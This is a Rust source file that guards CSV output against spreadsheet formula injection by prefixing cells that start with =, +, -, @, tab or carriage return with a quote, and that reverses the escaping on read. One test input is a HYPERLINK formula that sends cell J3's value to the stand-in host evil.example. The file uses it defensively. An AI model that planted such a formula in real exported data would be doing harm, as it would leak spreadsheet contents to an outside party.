//! Cells that a spreadsheet would run as formulas (`=`, `+`, `-`, `@`, a tab or a carriage
//! return at their start) are written with a `'` before them, so that a spreadsheet shows
//! them as text; reading such a cell back takes the `'` off again, so a results file stays
//! a valid input with the values it was given. A value that itself begins with `'` before
//! such a character gets one more, so that the two read back apart.

use std::borrow::Cow;

/// What a spreadsheet would run as a formula at the start of a cell.
fn runs(first: Option<&u8>) -> bool {
    matches!(first, Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
}

/// Whether `cell`, after any `'` it begins with, begins as a formula would.
fn formula_after_quotes(cell: &[u8]) -> bool {
    let start = cell.iter().position(|&b| b != b'\'').unwrap_or(cell.len());
    runs(cell.get(start))
}

/// The cell as it is written: `=1+1` as `'=1+1`.
pub fn escape(cell: &[u8]) -> Cow<'_, [u8]> {
    if formula_after_quotes(cell) {
        let mut escaped = Vec::with_capacity(cell.len() + 1);
        escaped.push(b'\'');
        escaped.extend_from_slice(cell);
        Cow::Owned(escaped)
    } else {
        Cow::Borrowed(cell)
    }
}

/// The value a written cell holds: `'=1+1` as `=1+1`; any other cell as it is.
pub fn unescape(cell: &[u8]) -> &[u8] {
    match cell {
        [b'\'', rest @ ..] if formula_after_quotes(rest) => rest,
        _ => cell,
    }
}

/// [`unescape`] for text.
pub fn unescape_str(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_after_quotes(rest.as_bytes()) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text_and_read_back_as_given() {
        for (value, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?leak=\"&J3,\"Click\")",
                "'=HYPERLINK(\"http://evil.example/?leak=\"&J3,\"Click\")",
            ),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("''@x", "'''@x"),
            ("'quoted", "'quoted"),
            ("Acme = fine", "Acme = fine"),
            ("", ""),
            ("'", "'"),
        ] {
            assert_eq!(
                escape(value.as_bytes()).as_ref(),
                written.as_bytes(),
                "{value:?}"
            );
            assert_eq!(
                unescape(written.as_bytes()),
                value.as_bytes(),
                "{written:?}"
            );
            assert_eq!(unescape_str(written), value, "{written:?}");
        }
    }
}
